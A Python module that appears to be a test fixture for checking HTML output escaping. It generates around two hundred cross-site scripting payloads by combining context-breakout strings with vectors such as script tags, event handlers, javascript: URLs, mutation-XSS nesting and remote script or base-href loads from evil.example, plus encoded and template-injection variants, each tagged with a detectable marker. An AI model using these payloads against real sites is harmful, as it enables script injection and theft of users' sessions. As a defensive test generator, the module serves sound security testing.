"""Words that would be markup or a script if a page wrote them as they are; each carries a mark that names it."""

import re

MARK = re.compile(r"zyx(\d+)z", re.IGNORECASE)
"""In whatever a payload makes; the number is its place in `SCRIPTS`."""

_WAYS_OUT = (
    "", '">', "'>", '" ', "' ", '"/>', "</textarea>", "</title>", "</script>", "</style>", "</option></select>",
    "</noscript>", "</template>", "</details>", "</svg>", "-->", "]]>", "&quot;>", "`", '\\">',
)  # fmt: skip
"""What ends the place in which words stand: an attribute, an element of plain text, a comment."""
_VECTORS = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "onfocus={js} autofocus onmouseover={js} style=animation-name:x onanimationend={js} x=",
    '<a href="javascript:{js}" data-{mark}=1>a way</a>',
    '<iframe srcdoc="<script>top.{mark}=1</script>"></iframe>',
    "<form action=javascript:{js}><button autofocus formaction=javascript:{js}>on</button>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js}&gt;">',
    "<base href=//evil.example/{mark}/>",
)
_ALONE = (
    "javascript:{js}",
    " JaVaScRiPt:{js}//",
    "data:text/html,<script>{js}</script>",
    "//evil.example/{mark}",
    "<ScRiPt sRc=//evil.example/{mark}.js></sCrIpT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    '<meta http-equiv=refresh content="0;url=javascript:{js}">',
    "<link rel=stylesheet href=//evil.example/{mark}.css>",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "%3Cscript%3E{js}%3C/script%3E",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "{{{{ cycler.__init__.__globals__ }}}} {{% raw %}} {mark}",
    "%(name)s %(num)d %s %% {mark}",
    "${{{js}}} #{{{js}}} <%= {mark} %>",
)


def _written(template: str, place: int) -> str:
    mark = f"zyx{place}z"
    return template.format(js=f"top.{mark}=1", mark=mark)


SCRIPTS: tuple[str, ...] = tuple(
    _written(template, place)
    for place, template in enumerate((*(way + vector for vector in _VECTORS for way in _WAYS_OUT), *_ALONE))
)
"""Two hundred ways out of where words stand, and some that need none."""


def payload(turn: int) -> str:
    """The payload of a turn; they come round."""
    return SCRIPTS[turn % len(SCRIPTS)]


def marks_in(text: str) -> set[int]:
    """The places of the payloads of which something stands in a text."""
    return {int(found) for found in MARK.findall(text)}
